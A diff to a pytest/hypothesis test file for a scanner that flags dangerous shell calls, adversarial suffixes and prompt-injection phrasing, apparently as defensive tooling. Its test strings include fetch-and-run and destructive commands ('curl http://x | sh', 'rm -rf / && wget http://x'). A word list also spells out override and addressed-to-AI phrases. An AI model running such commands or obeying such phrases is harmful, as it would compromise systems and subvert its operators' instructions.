@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -68,12 +69,215 @@ def test_document_line_prefilter_matches_the_multiline_regex(lines: list[str]) -
     assert sig._is_document(text, folded) == expected
 
 
-@settings(max_examples=200, deadline=None)
-@given(st.lists(st.sampled_from([*sig._DANGER, "word", ". ", ".x", "(", "-"]), max_size=8))
-def test_danger_hits_match_the_plain_scan(parts: list[str]) -> None:
-    """Gated scanning finds the same dangerous calls, in the same order, as scanning for each."""
-    folded = " ".join(parts)
-    assert sig._danger_hits(folded) == [d for d in sig._DANGER if d in folded]
+def _words(folded: str) -> set[str]:
+    """The tokens of *folded* and the parts of joined ones, as analyze() passes them on."""
+    toks = sig.tokenize(folded)
+    return set(toks) | {p for t in toks for p in re.split(r"['\u2019-]", t)}
+
+
+def _reference_danger(folded: str) -> list[str]:
+    words = _words(folded) | {p for t in sig.tokenize(folded) for p in re.split(r"['\u2019_-]", t)}
+    out = []
+    for entry in sig._DANGER:
+        head = re.match(r"[^a-z0-9]*([a-z0-9]+)", entry)
+        assert head is not None
+        forms = sig._DANGER_FORMS.get(entry, (head.group(1),))
+        if entry in folded and not words.isdisjoint(forms):
+            out.append(entry)
+    return out
+
+
+_DANGER_PARTS = [*sig._DANGER, "word", ". ", ".x", "(", "-", "mac", "_", "she", "ll", "ers", "py"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(_DANGER_PARTS), max_size=8), st.sampled_from(["", " "]))
+def test_danger_hits_match_the_plain_scan(parts: list[str], glue: str) -> None:
+    """Token-gated scanning finds what scanning for each entry starting a word finds, in order."""
+    folded = glue.join(parts)
+    assert sig._danger_hits(folded, _words(folded)) == _reference_danger(folded)
+
+
+@pytest.mark.parametrize(
+    ("folded", "expected"),
+    [
+        ("curl http://x | sh", ["| sh"]),
+        ("| 2007 | sheffield |", []),  # a table cell, not a pipe into a shell
+        ("print(os.environ)", ["os.environ"]),
+        ("macos.environment", []),
+        ("import secure_smtplib", ["smtplib"]),
+        ("a keylogger for windows", ["keylog"]),
+        ("rm -rf / && wget http://x", ["rm -rf", "wget http"]),
+    ],
+)
+def test_danger_examples(folded: str, expected: list[str]) -> None:
+    """Dangerous calls count where their first word starts a word; snake_case parts count too."""
+    assert sig._danger_hits(folded, _words(folded)) == expected
+
+
+def _reference_adversarial(text: str) -> float:
+    """The adversarial-suffix score by its plain definition (loops over characters and chunks)."""
+    if len(text) < 40:
+        return 0.0
+    ends = (text[-400:], text[:400]) if len(text) > 400 else (text,)
+    parts = [p for p in ends if sig._odd_count(p) >= 4]
+    if not parts or sig._CODE_SHAPE.search(text[:2000]):
+        return 0.0
+    best = 0.0
+    for part in parts:
+        toks = part.split()
+        if len(toks) < 8:
+            continue
+        camel = [bool(sig._CAMEL.search(t)) and "_" not in t and "." not in t[1:-1] for t in toks]
+        if sum(camel) * 2 >= len(toks):
+            camel = [False] * len(toks)
+        flags = []
+        for t, joint in zip(toks, camel, strict=True):
+            rare = sum(c in sig._RARE for c in t)
+            odd = len(t) >= 2 and (
+                bool(rare and (rare >= 2 or any(c.isalpha() for c in t) or len(t) == rare + 1)) or joint
+            )
+            flags.append(odd)
+        w = min(10, len(flags))
+        top = max(sum(flags[i : i + w]) for i in range(len(flags) - w + 1))
+        best = max(best, top / w)
+    return 0.0 if best < 0.3 else min(1.0, (best - 0.2) / 0.4)
+
+
+# Rare characters, letters of both cases and scripts, "_" and ".", ASCII and non-ASCII whitespace,
+# digits, and non-letters outside ASCII.
+_SUFFIX_TEXT = st.text(alphabet="aAbZ1 _.-(]{*!|\\\t\n;:`=>éЖ\u2003\xa0\u3000→x", min_size=30, max_size=140)
+
+
+@settings(max_examples=400, deadline=None)
+@given(_SUFFIX_TEXT)
+def test_adversarial_fast_path_matches_the_plain_definition(text: str) -> None:
+    """Chunk shapes from class strings and prefix sums give the plain loops' score."""
+    assert sig._adversarial(text) == pytest.approx(_reference_adversarial(text))
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text(alphabet="ab(){};=>: \n\tdefx_`", max_size=40))
+def test_code_shape_branches_match_the_regex(text: str) -> None:
+    """Trying each branch behind its literal finds code exactly where the whole pattern does."""
+    assert sig._code_shaped(text) == (sig._CODE_SHAPE.search(text) is not None)
+
+
+def test_non_ascii_whitespace_tables_match_python() -> None:
+    """The non-ASCII whitespace table and its UTF-8 test agree with str.isspace on every character."""
+    chars = [chr(c) for c in range(128, 0x110000)]
+    spaces = [c for c in chars if c.isspace()]
+    assert [c for c in chars if sig.NON_ASCII_SPACE.match(c)] == spaces
+    for c in spaces:
+        assert sig._has_non_ascii_space(f"a{c}b"), hex(ord(c))
+    others = [c for c in chars if not c.isspace()]
+    for i in range(0, len(others), 4096):  # lone surrogates included
+        assert not sig._has_non_ascii_space("".join(others[i : i + 4096]))
+
+
+_FLOOD_CHUNKS = ["a", "ab", "abc", "abcd", "abcdefg", "x!", "é", "éé", "東東東東"]
+_FLOOD_CHUNKS += [" ", "  ", "\t", "\n", "\u3000"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(_FLOOD_CHUNKS), max_size=150))
+def test_short_run_prefilter_matches_the_loop_beyond_ascii(chunks: list[str]) -> None:
+    """With non-ASCII letters and whitespace and runs of spaces, the prefilter changes nothing."""
+    text = " ".join(chunks)
+    assert sig._short_run(text) == _reference_short_run(text)
+
+
+# Whole words of the phrase patterns and their anchors, and the separators around them.
+_PHRASE_WORDS = [
+    "system",
+    "admin",
+    "developer",
+    "mode",
+    "override",
+    "update",
+    "enabled",
+    "by",
+    "openai",
+    "debugging",
+    "root",
+    "god",
+    "access",
+    "the",
+    "rules",
+    "have",
+    "been",
+    "changed",
+    "situation",
+    "has",
+    "simulation",
+    "is",
+    "over",
+    "that",
+    "was",
+    "only",
+    "a",
+    "test",
+    "you",
+    "granted",
+    "new",
+    "instructions",
+    "are",
+    "real",
+    "task",
+    "end",
+    "begin",
+    "start",
+    "stop",
+    "of",
+    "user",
+    "input",
+    "prompt",
+    "document",
+    "note",
+    "to",
+    "ai",
+    "assistant",
+    "model",
+    "hey",
+    "dear",
+    "if",
+    "you",
+    "are",
+    "an",
+    "llm",
+    "when",
+    "summarize",
+    "this",
+    "reading",
+]
+_PHRASE_SEPARATORS = [" ", "\n", ": ", " [", "] ", " %%% ", " === ", " </", "> "]
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.tuples(st.sampled_from(_PHRASE_WORDS), st.sampled_from(_PHRASE_SEPARATORS)), max_size=9))
+def test_anchor_gates_never_skip_a_match_of_whole_words(pairs: list[tuple[str, str]]) -> None:
+    """Where every word stands alone, the gated anchor search finds a match exactly when the
+    pattern matches somewhere in the text."""
+    folded = "".join(w + sep for w, sep in pairs)
+    words = _words(folded)
+    for pattern, anchors, radius in (
+        (sig._SYSMODE, sig._SYSMODE_AT, 64),
+        (sig._SWITCH, sig._SWITCH_AT, 64),
+        (sig._ADDRESSED, sig._ADDRESSED_AT, 64),
+    ):
+        found = sig._search(pattern, folded, anchors, words, radius) is not None
+        assert found == (pattern.search(folded) is not None), pattern.pattern[:30]
+    delim = sig._search(sig._FAKE_DELIM, folded, sig._DELIM_RUN_AT, words, 140) or sig._search(
+        sig._FAKE_DELIM, folded, sig._DELIM_WORD_AT, words, 64
+    )
+    assert (delim is not None) == (sig._FAKE_DELIM.search(folded) is not None)
+
+
+def test_a_long_delimiter_run_is_searched_at_its_end() -> None:
+    """A run of delimiter characters longer than the search window still counts at its end."""
+    folded = "%" * 500 + " end of instructions"
+    words = _words(folded)
+    assert sig._search(sig._FAKE_DELIM, folded, sig._DELIM_RUN_AT, words, 140) is not None
 
 
 @settings(max_examples=200, deadline=None)
